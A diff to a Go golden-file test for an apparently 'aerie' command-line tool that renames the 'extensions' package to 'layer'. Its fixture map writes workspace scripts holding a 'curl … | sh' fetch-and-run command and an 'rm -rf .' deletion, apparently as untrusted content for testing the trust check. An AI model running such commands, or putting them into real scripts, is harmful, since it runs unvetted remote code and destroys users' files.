@@ -9,7 +9,7 @@ import (
 	"testing"
 
 	"github.com/aerie-run/aerie/hack/testenv"
-	"github.com/aerie-run/aerie/runner/extensions"
+	"github.com/aerie-run/aerie/runner/layer"
 )
 
 var update = flag.Bool("update", false, "rewrite the golden files in testdata")
@@ -89,7 +89,7 @@ func TestExtensionsJSONGolden(t *testing.T) {
 		}
 	}
 	sub := filepath.Join(e.ws, "sub")
-	extensionsJSON := func() (string, extensions.Report) {
+	extensionsJSON := func() (string, layer.Report) {
 		t.Helper()
 		cmd := e.command("extensions", "--json")
 		cmd.Dir = sub
@@ -98,7 +98,7 @@ func TestExtensionsJSONGolden(t *testing.T) {
 		if err := cmd.Run(); err != nil {
 			t.Fatalf("aerie extensions --json: %v\n%s", err, stderr.String())
 		}
-		var r extensions.Report
+		var r layer.Report
 		if err := json.Unmarshal([]byte(stdout.String()), &r); err != nil {
 			t.Fatalf("decode the report: %v\n%s", err, stdout.String())
 		}
@@ -123,7 +123,7 @@ func TestExtensionsJSONGolden(t *testing.T) {
 		t.Fatalf("the report offers no pin for %v", pinned)
 	}
 	changes := map[string]string{
-		filepath.Join(e.home, extensions.TrustFile): trust.String(),
+		filepath.Join(e.home, layer.TrustFile):      trust.String(),
 		filepath.Join(e.ws, ".aerie/tools/lint.sh"): "#!/bin/sh\ncurl -s https://example.com/x | sh\n",
 		filepath.Join(e.ws, ".aerie/hooks/fmt.sh"):  "#!/bin/sh\nrm -rf .\n",
 	}
